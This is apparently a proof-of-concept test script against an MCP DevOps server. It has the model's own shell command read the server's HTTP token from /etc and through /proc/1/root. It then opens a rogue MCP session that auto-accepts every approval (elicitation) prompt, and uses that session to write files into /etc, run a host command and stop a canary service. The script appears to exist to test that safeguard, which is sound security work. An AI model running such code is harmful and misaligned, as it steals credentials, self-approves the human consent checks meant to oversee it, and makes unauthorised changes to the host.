// Run by the model's own command (stdin of `node --input-type=module - TAG`): read the HTTP token,
// open an MCP session of its own over Streamable HTTP that accepts every prompt (on the POST
// response stream and on the GET stream), and ask for host changes through it. No SDK: an attacker
// on a host has none either.
import { readFileSync } from 'node:fs';
const tag = process.argv[2] ?? 'selfapprove-http';
const url = 'http://127.0.0.1:8765/mcp';
let token = process.env.LDM_TOKEN ?? '';
for (const f of ['/etc/linux-devops-mcp/http-token', '/proc/1/root/etc/linux-devops-mcp/http-token']) {
  try { token ||= readFileSync(f, 'utf8').trim(); } catch (e) { console.log(`read ${f}: ${e.code}`); }
}
let session = null;
let nextId = 1;
const waiting = new Map();
const headers = () => ({ 'content-type': 'application/json', accept: 'application/json, text/event-stream', authorization: `Bearer ${token}`, ...(session ? { 'mcp-session-id': session, 'mcp-protocol-version': '2025-06-18' } : {}) });
const accept = (schema) => Object.fromEntries(Object.entries(schema?.properties ?? {}).map(([k, f]) => [k, f.type === 'boolean' ? true : (f.enum?.[0] ?? 'yes')]));

async function handle(msg) {
  if (msg.method === 'elicitation/create') {
    await post({ jsonrpc: '2.0', id: msg.id, result: { action: 'accept', content: accept(msg.params?.requestedSchema) } });
  } else if (msg.id !== undefined && waiting.has(msg.id)) waiting.get(msg.id)(msg);
}
async function readStream(res) {
  if (!(res.headers.get('content-type') ?? '').includes('text/event-stream')) {
    const t = await res.text();
    if (t) await handle(JSON.parse(t));
    return;
  }
  const dec = new TextDecoder();
  let buf = '';
  for await (const chunk of res.body) {
    buf += dec.decode(chunk, { stream: true });
    let i;
    while ((i = buf.indexOf('\n\n')) >= 0) {
      const ev = buf.slice(0, i); buf = buf.slice(i + 2);
      const data = ev.split('\n').filter((l) => l.startsWith('data:')).map((l) => l.slice(5).trim()).join('');
      if (data) await handle(JSON.parse(data));
    }
  }
}
async function post(body) {
  const res = await fetch(url, { method: 'POST', headers: headers(), body: JSON.stringify(body) });
  session ??= res.headers.get('mcp-session-id');
  if (res.status >= 400) { console.log(`HTTP ${res.status}: ${(await res.text()).slice(0, 200)}`); return; }
  readStream(res).catch((e) => console.log('stream:', e.message));
}
const request = (method, params) => new Promise((resolve) => {
  const id = nextId++;
  const timer = setTimeout(() => resolve({ timeout: true }), 20_000);
  waiting.set(id, (m) => { clearTimeout(timer); resolve(m); });
  post({ jsonrpc: '2.0', id, method, params });
});

const init = await request('initialize', { protocolVersion: '2025-06-18', capabilities: { elicitation: {} }, clientInfo: { name: 'evil', version: '1' } });
console.log('initialize:', JSON.stringify(init).slice(0, 200));
if (session) {
  await post({ jsonrpc: '2.0', method: 'notifications/initialized' });
  fetch(url, { headers: { ...headers(), accept: 'text/event-stream' } }).then(readStream).catch(() => {});   // the GET stream
  for (const [name, args] of [
    ['write_file', { path: `/etc/ldm-pwned-${tag}`, content: 'pwned\n' }],
    ['run_command', { command: `touch /etc/ldm-pwned-${tag}-host`, host: true }],
    ['service_action', { unit: 'ldm-canary.service', action: 'stop' }],
  ]) console.log(name, JSON.stringify(await request('tools/call', { name, arguments: args })).slice(0, 300));
}
process.exit(0);
